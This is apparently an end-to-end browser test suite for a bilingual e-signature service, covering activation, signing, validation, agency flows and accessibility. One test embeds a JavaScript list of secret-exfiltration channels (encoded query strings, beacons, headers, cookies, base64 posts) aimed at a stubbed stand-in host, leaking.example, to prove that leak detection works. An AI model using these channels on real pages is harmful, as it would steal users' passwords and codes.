"""A citizen's life in a real browser against the running service, in both languages.

Everything that is downloaded here goes to EU DSS as it is, and so do copies with a bit changed.
"""

import secrets
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import expect

from rubrica.newcomer import Citizen
from rubrica.phone import NoMessage, Phone
from rubrica_client import NewDocument
from tests.e2e.test_agency import over
from tests.testkit.browser import agency_site, loads_at_once, violations
from tests.testkit.desk import csv_on
from tests.testkit.faces import FACES
from tests.testkit.outages import signatures
from tests.testkit.service import Activated

SAMPLES = Path(__file__).resolve().parents[1] / "samples" / "good"
PDF = SAMPLES / "libreoffice.pdf"
TWO_PAGES = SAMPLES / "poppler-pdfunite.pdf"
SIGNED_BEFORE = SAMPLES / "signed-before.pdf"
LANGUAGES = ("es-ES", "en-GB")


def activate(visitor, service, person, code, phone):
    """From the receipt's code to a password; gives the one-time code."""
    page = visitor.page
    page.goto(f"{service.running.gate}/activate")
    visitor.look("activate-1-data")
    page.locator("[data-step='begin'] button[type=submit]").click()
    expect(page.locator("[data-step='begin'] [data-errors]")).to_be_focused()
    expect(page.locator("[data-step='begin'] [data-list] li")).to_have_count(3)
    visitor.look("activate-2-missing")
    page.fill("#nif", person.nif)
    page.fill("#email", person.email)
    page.fill("#code", code.lower())
    page.locator("[data-step='begin'] button[type=submit]").click()
    expect(page.locator("#code-heading")).to_be_focused()
    visitor.look("activate-3-code")
    otp = visitor.type_code(phone.code(visitor.reference()))
    expect(page.locator("#new-heading")).to_be_focused()
    page.fill("#fresh", "corta")
    page.locator("[data-step='new'] button[type=submit]").click()
    expect(page.locator("#fresh")).to_have_attribute("aria-invalid", "true")
    visitor.look("activate-4-password")
    page.fill("#fresh", person.password)
    expect(page.locator(".rules .met")).to_have_count(2)
    page.locator("[data-step='new'] button[type=submit]").click()
    expect(page.locator("#done-heading")).to_be_focused()
    visitor.look("activate-5-done")
    return otp


def read_every_page(visitor, count):
    pictures = visitor.page.locator(".page img")
    expect(pictures).to_have_count(count)
    for picture in pictures.all():
        picture.scroll_into_view_if_needed()
        picture.evaluate("image => image.decode()")
        assert picture.evaluate("image => image.naturalWidth") > 500


# As people choose them: each of these signs looks different in an address, in a form and in JSON.
PASSWORD = 'Cigüeña & 7 "olmos" +/%'


def registered(desk, locale):
    """Somebody whom the office entered with a wrong phone, and what it handed over once that was mended."""
    person = replace(Citizen.draw(), password=PASSWORD)
    wrong = desk.register(person, phone=Citizen.draw().phone, language=locale[:2])
    # One officer alone cannot give another phone and a new code, not even by signing twice.
    for second in ("", desk.registrar):
        refused = desk.renewing(person, phone=person.phone, supervisor=second)
        assert (refused.returncode, refused.stdout) == (1, "")
    right = desk.renew(person, phone=person.phone, supervisor=desk.supervisor, language=locale[:2])
    assert right.code != wrong.code
    return person, wrong, right


@pytest.mark.parametrize("locale", LANGUAGES)
def test_the_whole_life(service, desk, court, visit, locale, tmp_path):
    person, wrong, paper = registered(desk, locale)
    for name, each in {"acceptance": wrong.acceptance, "receipt": paper.receipt}.items():
        assert court.passes(f"life-{locale}/{name}", each, "PAdES-BASELINE-B").signed_by
        assert desk.command("verify", csv_on(each), str(each)).returncode == 0
    phone = Phone(service.running.inbox, person.phone)
    visitor = visit(locale)
    page = visitor.page

    page.goto(service.running.gate)
    visitor.look("gate-home")
    the_older_code_is_over(visitor, service, person, wrong.code, phone)
    otps = [activate(visitor, service, person, paper.code, phone)]
    page.goto(service.running.edge)
    visitor.look("sign-1-choose")
    visitor.bring(service.running.edge, TWO_PAGES)
    read_every_page(visitor, 2)
    visitor.look("sign-2-review")
    review_url = page.url
    visitor.to_the_gate()
    expect(page.locator("[data-title]")).to_have_text([TWO_PAGES.stem])
    visitor.look("authorise-1-password")
    visitor.type_password(person.nif, person.password)
    visitor.reference()
    visitor.look("authorise-2-code")
    page.reload()  # nothing is lost: the page goes on where it was
    otps.append(visitor.type_code(phone.code(visitor.reference())))
    page.wait_for_url(review_url)
    visitor.look("sign-3-done")
    signed = downloaded(visitor, DOWNLOAD, tmp_path / "signed.pdf")
    assert signed.read_bytes().startswith(TWO_PAGES.read_bytes())
    assert "NÚÑEZ" in court.passes(f"life-{locale}/pdf", signed, "PAdES-BASELINE-LTA").signed_by.upper()
    receipt = downloaded(visitor, "a[href$='/receipt']", tmp_path / "receipt.jws")
    assert receipt.read_bytes().count(b".") == 2
    page.locator("section.card .button.second").click()
    expect(page.locator(".notice.good")).to_be_visible()
    visitor.look("check-2-own")
    page.goto(f"{service.running.edge}/validate")
    visitor.look("check-1-choose")
    for file, notice in ((signed, "good"), (flipped(signed, tmp_path), "bad"), (PDF, "warning")):
        check(visitor, service, file, notice)
        visitor.look(f"check-2-report-{notice}")

    otps.append(sign_an_xml(visitor, service, court, Activated(person, phone), tmp_path))

    assert visitor.sent.holds(person.nif)  # so the record does see what is typed
    typed = (person.password, wrong.code, paper.code, *otps)
    assert [secret for secret in typed if said(visitor, secret)] == []


DOWNLOAD = "section.card .button:not(.second)"


def said(visitor, secret):
    """Whether a page sent it, also as it is typed in lower case or without hyphens."""
    return any(visitor.sent.holds(each) for each in {secret, secret.lower(), secret.replace("-", "")})


def the_older_code_is_over(visitor, service, person, code, phone):
    visitor.page.goto(f"{service.running.gate}/activate")
    for name, value in (("nif", person.nif), ("email", person.email), ("code", code)):
        visitor.page.fill(f"#{name}", value)
    visitor.page.locator("[data-step='begin'] button[type=submit]").click()
    # It looks like any other, and nothing is sent.
    with pytest.raises(NoMessage):
        phone.code(visitor.reference(), wait_seconds=1)
    visitor.page.locator("[data-again]").click()


def sign_an_xml(visitor, service, court, citizen, folder):
    page = visitor.page
    document = folder / "expediente.xml"
    subject = '<asunto clave="27-b">Solicitud</asunto>'
    document.write_text(f"<expediente><!-- pagado -->{subject}<importe>1.234,56</importe></expediente>")
    visitor.bring(service.running.edge, document)
    expect(page.locator(".text")).to_contain_text(f"  {subject}")
    expect(page.locator(".text")).not_to_contain_text("pagado")
    expect(page.locator("main .notice").first).to_contain_text("coment" if visitor.language == "es" else "Comments")
    visitor.look("sign-2-review-xml")
    visitor.to_the_gate()
    visitor.type_password(citizen.person.nif, citizen.person.password)
    otp = visitor.type_code(citizen.phone.code(visitor.reference()))
    page.wait_for_url("**/review/*")
    signed = downloaded(visitor, DOWNLOAD, folder / "signed.xml")
    assert signed.read_bytes().startswith(b'<expediente><asunto clave="27-b">Solicitud</asunto>')
    court.passes(f"life-{visitor.language}/xml", signed, "XAdES-BASELINE-B")
    check(visitor, service, signed, "good")
    visitor.look("check-2-report-xml")
    broken = folder / "broken.xml"
    broken.write_bytes(signed.read_bytes().replace(b"1.234,56", b"9.234,56"))
    check(visitor, service, broken, "bad")
    commented = folder / "commented.xml"
    commented.write_bytes(signed.read_bytes().replace(b"<asunto ", b"<!-- pagado --><asunto "))
    check(visitor, service, commented, "warning")
    visitor.look("check-2-report-xml-comment")
    return otp


def downloaded(visitor, selector, path):
    with visitor.page.expect_download() as downloading:
        visitor.page.locator(selector).first.click()
    downloading.value.save_as(path)
    return path


def flipped(signed, folder):
    data = bytearray(signed.read_bytes())
    data[200] ^= 1
    changed = folder / f"flipped{signed.suffix}"
    changed.write_bytes(data)
    return changed


def check(visitor, service, file, notice):
    visitor.page.goto(f"{service.running.edge}/validate")
    visitor.page.set_input_files("#document", file)
    visitor.page.locator("button[type=submit]").click()
    expect(visitor.page.locator(f".notice.{notice}")).to_be_visible()


@pytest.mark.parametrize("face", FACES)
def test_an_agency_asks_for_three_documents_and_one_approval(face, service, court, visit, citizen, tmp_path):
    visitor = visit()
    page = visitor.page
    documents = [PDF, TWO_PAGES, SIGNED_BEFORE]
    nonce = secrets.token_hex(8)
    before = signatures(service)

    with ExitStack() as stack:
        home = stack.enter_context(agency_site())
        agency = over(face, service, stack, home)
        sent = agency.send(
            [NewDocument(path.stem, path) for path in documents],
            citizen_nif=citizen.person.nif,
            return_url=home,
            nonce=nonce,
        )
        page.goto(sent.review_url)
        expect(page.locator(".facts")).to_contain_text("Ayuntamiento de Pruebas")
        read_every_page(visitor, 4)
        expect(page.locator(".notice.warning")).to_have_count(1)  # the one that was signed before
        visitor.look_in_both("sign-2-review-agency")
        visitor.to_the_gate()
        expect(page.locator("[data-title]")).to_have_text([path.stem for path in documents])
        visitor.look_in_both("authorise-1-password-agency")
        returns = loads_at_once(visitor, 4)
        visitor.type_password(citizen.person.nif, citizen.person.password)
        otp = visitor.type_code(citizen.phone.code(visitor.reference()))
        page.wait_for_url(f"{home}?result=*")
        first_result = page.url
        # Five browsers' worth of the same return address, and one approval: each document is signed once.
        assert {(status, place) for status, place in returns.answers()} == {(303, first_result)}
        signed = service.collect(agency, sent.id, documents, tmp_path)
        assert signatures(service) == before + 3
        claims = agency.verify_result(first_result.partition("?result=")[2], service.token_key, nonce=nonce)
        assert claims["request"]
        contents = [path.read_bytes() for path in signed]

        # The return address again: the same answer, and nothing is signed a second time.
        page.goto(returns.url)
        page.wait_for_url(f"{home}?result=*")
        assert page.url == first_result
        again = service.collect(agency, sent.id, documents, tmp_path)
        assert [path.read_bytes() for path in again] == contents
        assert signatures(service) == before + 3

    for number, path in enumerate(signed, 1):
        assert path.read_bytes().startswith(documents[number - 1].read_bytes())
        court.passes(f"agency-{face}/{number}", path, "PAdES-BASELINE-LTA")
    page.goto(sent.review_url)
    visitor.look_in_both("sign-3-done-agency")
    got = downloaded(visitor, DOWNLOAD, tmp_path / "got.pdf")
    assert got.read_bytes() == contents[0]
    check(visitor, service, got, "good")
    assert visitor.sent.holds(citizen.person.nif)
    assert [secret for secret in (citizen.person.password, otp) if visitor.sent.holds(secret)] == []
    # Another browser sees that it is signed, and gets nothing.
    stranger = visit("en-GB")
    stranger.page.goto(sent.review_url)
    expect(stranger.page.locator("section.card")).to_have_count(0)
    stranger.look_in_both("sign-3-done-stranger")


@pytest.mark.parametrize("locale", LANGUAGES)
def test_the_password_is_changed_by_keyboard_alone(service, visit, locale):
    citizen = service.citizen()
    visitor = visit(locale)
    page, keyboard = visitor.page, visitor.page.keyboard
    fresh = "Otra-clave-de-prueba-7"

    page.goto(f"{service.running.gate}/password")
    visitor.look("password-1-data")
    page.locator("#nif").focus()
    keyboard.type(citizen.person.nif)
    keyboard.press("Tab")
    keyboard.type(citizen.person.password)
    keyboard.press("Enter")
    otp = citizen.phone.code(visitor.reference())
    keyboard.press("Tab")
    expect(page.locator("#otp")).to_be_focused()
    keyboard.type(otp)
    keyboard.press("Enter")
    expect(page.locator("#new-heading")).to_be_focused()
    keyboard.press("Tab")
    keyboard.type("Ejemplo-Ana-1")
    keyboard.press("Enter")
    expect(page.locator("#fresh-error")).not_to_be_empty()  # it holds a name, which only the core knows
    visitor.look("password-2-name")
    keyboard.press("Tab")
    keyboard.press("Enter")
    expect(page.locator("#fresh")).to_be_focused()
    keyboard.press("Control+A")
    keyboard.type(fresh)
    keyboard.press("Enter")
    expect(page.locator("#done-heading")).to_be_focused()
    visitor.look("password-3-done")

    assert [secret for secret in (citizen.person.password, fresh, otp) if visitor.sent.holds(secret)] == []
    visitor.bring(service.running.edge, PDF)
    visitor.to_the_gate()
    visitor.type_password(citizen.person.nif, fresh)
    visitor.type_code(citizen.phone.code(visitor.reference()))
    page.wait_for_url("**/review/*")


LEAKS = r"""
const post = body => fetch('/', {method: 'POST', body});
const octets = text => unescape(encodeURIComponent(text));
const WAYS = {
  address: s => fetch('/?a=' + encodeURIComponent(s)),
  addressCodedTwice: s => fetch('/?a=' + encodeURIComponent(encodeURIComponent(s))),
  image: s => { new Image().src = '/i?' + encodeURIComponent(s) },
  form: s => post(new URLSearchParams({a: s})),
  formWithParts: s => { const form = new FormData(); form.set('a', s); return post(form) },
  json: s => post(JSON.stringify({a: s})),
  jsonEscaped: s => post([...s].map(c => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('')),
  base64: s => post(btoa(octets(s))),
  base64BehindOne: s => post(btoa(octets('x' + s + 'yz'))),
  base64BehindTwo: s => post(btoa(octets('xy' + s + 'z'))),
  base64url: s => post(btoa(octets(s)).replaceAll('+', '-').replaceAll('/', '_')),
  hexadecimal: s => post([...octets(s)].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')),
  beacon: s => navigator.sendBeacon('/', s),
  header: s => fetch('/', {headers: {'X-A': encodeURIComponent(s)}}),
  basic: s => fetch('/', {headers: {Authorization: 'Basic ' + btoa(octets('a:' + s))}}),
  cookie: s => { document.cookie = 'a=' + encodeURIComponent(s); return fetch('/') },
};
"""


@pytest.mark.parametrize("secret", [PASSWORD, "042137", "803Z-B5RF-HJG4-P2937"])
def test_the_record_would_see_a_secret_whichever_way_it_goes(visit, secret):
    visitor = visit()
    page = visitor.page
    page.route("**/*", lambda route: route.fulfill(body="<!doctype html>", content_type="text/html"))
    page.goto("https://leaking.example/")
    page.evaluate("code => { self.WAYS = Function(code + 'return WAYS')() }", LEAKS)
    ways = page.evaluate("Object.keys(WAYS)")
    unseen = []
    for way in ways:
        visitor.sent.raw.clear()
        with page.expect_request("**/*"):
            page.evaluate("([way, secret]) => WAYS[way](secret)", [way, secret])
        if not visitor.sent.holds(secret) or visitor.sent.holds("another secret"):
            unseen.append(way)
    assert len(ways) > 10
    assert unseen == []


def test_a_language_once_chosen_stays(service, visit):
    visitor = visit("es-ES")
    page = visitor.page

    page.goto(service.running.edge)
    page.locator("a[hreflang=en]").click()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    visitor.bring(service.running.edge, PDF)
    expect(page.locator("html")).to_have_attribute("lang", "en")
    visitor.to_the_gate()
    expect(page.locator("html")).to_have_attribute("lang", "en")


def test_axe_would_find_what_is_wrong(service, visit):
    page = visit().page
    page.goto(service.running.edge)

    assert violations(page) == []

    page.evaluate("document.querySelector('label').remove()")

    assert "label" in [name for name, _ in violations(page)]


@pytest.mark.parametrize("locale", LANGUAGES)
def test_dark_colours_keep_their_contrast(service, visit, locale, tmp_path):
    visitor = visit(locale)
    page = visitor.page
    page.emulate_media(color_scheme="dark")
    page.goto(f"{service.running.gate}/activate")
    page.locator("[data-step='begin'] button[type=submit]").click()
    visitor.look("dark-activate")
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7 and nothing behind it")
    visitor.bring(service.running.edge, broken)
    visitor.look("dark-refused")
    visitor.bring(service.running.edge, SIGNED_BEFORE)
    read_every_page(visitor, 1)
    visitor.look("dark-review")
